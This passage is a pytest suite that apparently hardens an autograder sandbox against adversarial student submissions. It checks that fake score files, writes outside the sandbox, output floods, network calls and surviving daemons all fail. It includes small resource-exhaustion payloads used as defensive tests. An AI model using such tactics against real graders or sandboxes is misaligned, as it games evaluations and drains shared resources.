    completed = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=1800,
                               env={**os.environ, "BFS_TEST_SEED": SEED})
    seconds = time.perf_counter() - started
    time.sleep(1)   # let the kernel finish tearing down the last namespaces
    results = {}
    for path in (ctx.out / ASSIGNMENT.name).glob(f"*/{NOTEBOOK}.result.json"):
        results[path.parent.name] = SubmissionResult.from_json(json.loads(path.read_text()))
    print(f"\nadversarial batch: {len(results)} submissions in {seconds:.0f} s")
    yield Batch(ctx, results, completed, seconds, before, file_hashes(ctx.subs, ctx.course),
                touched_before, processes_before, sandbox_processes(MARKER), process_names(), server)
    server.close()
    for path in ctx.sneaky_paths:   # never leave anything behind if an attack did get through
        if path.is_file():
            path.unlink()


# ============================================================================ the checks

def test_the_batch_finished(batch):
    assert batch.completed.returncode == 0, batch.completed.stderr[-3000:]
    expected = {c.student for c in CASES} | set(HONEST)
    assert set(batch.results) == expected, f"missing: {expected - set(batch.results)}"
    assert "WARNING" not in batch.completed.stderr


@pytest.mark.parametrize("student", HONEST)
def test_honest_submissions_keep_full_marks(batch, student):
    result = batch.result(student)
    assert result.status == "graded" and result.isolation.startswith("strong")
    assert result.tests and all(t.passed for t in result.tests), \
        {t.grade_id: t.message for t in result.tests if not t.passed}
    assert result.score == result.max_score == sum(c.points for c in nbgrader_cells(F.source(ASSIGNMENT))
                                                   if c.kind == "test")


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.student)
def test_attack_gets_the_right_score_with_a_clear_reason(batch, case):
    result, honest = batch.result(case.student), batch.result("honest")
    assert result.status == case.status, (result.status, result.reason)
    assert [t.grade_id for t in result.tests] == [t.grade_id for t in honest.tests]
    assert result.max_score == honest.max_score
    if case.reason:
        assert re.search(case.reason, result.reason), result.reason
    for test, reference in zip(result.tests, honest.tests):
        if case.status != "graded":
            assert test.points == 0 and result.reason in test.message
        elif test.grade_id in case.fails:
            assert test.points == 0, f"{test.grade_id} should have failed"
            assert re.search(case.fails[test.grade_id], test.message), \
                f"{test.grade_id}: expected /{case.fails[test.grade_id]}/ in:\n{test.message}"
        else:
            assert test.points == reference.points == reference.max_points, \
                f"{test.grade_id} lost points: {test.message}"
    for pattern in case.notes:
        assert any(re.search(pattern, note) for note in result.notes), \
            f"no note matches /{pattern}/:\n" + "\n".join(result.notes)


def test_every_input_file_is_byte_identical(batch):
    changed = {path for path in batch.before.keys() | batch.after.keys()
               if batch.before.get(path) != batch.after.get(path)}
    assert not changed, sorted(changed)
    touched = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in batch.ctx.touched_files}
    assert touched == batch.touched_before


def test_nothing_was_written_where_the_submissions_tried_to_write(batch):
    created = [str(p) for p in batch.ctx.sneaky_paths if p.exists()]
    assert not created, created
    output = batch.result("a14_writes_outside").output
    assert "written (inside the sandbox" in output and "REPOSITORY FILE WRITABLE" not in output
    inside = re.search(r"written \(inside the sandbox, if anywhere\): (.*)", output).group(1)
    assert str(batch.ctx.root) not in inside, "the sandbox could create files in the repository"
    assert not Path("/tmp/results.json").exists() or "999" not in Path("/tmp/results.json").read_text()


def test_fake_results_are_replaced_by_the_graders(batch):
    out = batch.ctx.out / ASSIGNMENT.name
    fake = json.loads((out / "a10_fake_results" / "results.json").read_text())
    honest = batch.result("honest")
    assert fake["score"] == honest.max_score - 1 and len(fake["tests"]) > 1
    assert json.loads((out / "honest" / "results.json").read_text())["score"] == honest.max_score
    assert "999" not in (batch.ctx.out / "grades.csv").read_text()


def test_output_is_capped(batch):
    result = batch.result("a11_output_flood")
    assert len(result.output) < 100_000 and "more bytes of output not kept" in result.output
    folder = batch.ctx.out / ASSIGNMENT.name / "a11_output_flood"
    assert all(path.stat().st_size < 1_000_000 for path in folder.iterdir())


def test_no_connection_reached_the_host(batch):
    assert batch.server.connections == [] and batch.server.datagrams == []


def test_no_sandbox_process_survives(batch):
    assert not batch.processes_before and not batch.processes_after, \
        f"processes of this batch, running as a sandbox uid, outlived it: {batch.processes_after}"
    assert f"bfs{batch.ctx.token[:10]}" not in batch.names_after, "the setsid daemon outlived its sandbox"


# ============================================================================ the fixes, one by one
# Small checks on one sandbox each, for what the batch above found (see each docstring).

@pytest.fixture
def sandbox(tmp_path):
    from autograder.grader.worker import make_shell
    from autograder.sandbox.isolation import Policy, default_readonly_paths
    from autograder.sandbox.session import Sandbox

    box = Sandbox(Policy(readonly_paths=default_readonly_paths(), memory_bytes=2**30), MODE, str(tmp_path),
                  make_shell)
    box.start()
    yield box
    box.stop()


def _deadline(seconds=60):
    return time.monotonic() + seconds


def test_a_draw_from_the_tests_generator_cannot_make_the_grader_work_without_bound(sandbox):
    """Draws from a test's Generator run on the trusted side, outside the sandbox's time limit:
    a 4000 x 4000 covariance would cost a minute of SVD there. Such draws are refused."""
    import numpy as np

    assert sandbox.exec_cell(code("""
        import numpy as np
        def heavy(rng):
            return rng.multivariate_normal(np.zeros(4000), np.eye(4000))
        def huge(rng):
            return rng.permutation(10**9)
        def fine(rng):
            return rng.normal(0.0, 0.1, size=(400, 300)), rng.multivariate_normal(np.zeros(3), np.eye(3))
    """), _deadline())["ok"]
    for name in ("heavy", "huge"):
        started = time.monotonic()
        with pytest.raises(RuntimeError, match="refuses"):
            sandbox.call(name, (np.random.default_rng(0),), {}, _deadline())
        assert time.monotonic() - started < 10
    weights, sample = sandbox.call("fine", (np.random.default_rng(0),), {}, _deadline())
    assert weights.shape == (400, 300) and sample.shape == (3,)


def test_dtype_arguments_cross_as_data(sandbox):
    """``init_mlp(..., dtype=np.float32)``: a dtype is data, not a function to call back."""
    import numpy as np

    assert sandbox.exec_cell("def kinds(**kw):\n    return {k: repr(v) for k, v in kw.items()}\n",
                             _deadline())["ok"]
    got = sandbox.call("kinds", (), {"a": np.float32, "b": np.dtype("int64"), "c": float, "d": bool},
                       _deadline())
    assert got == {"a": repr(np.float32), "b": repr(np.dtype("int64")), "c": repr(float), "d": repr(bool)}
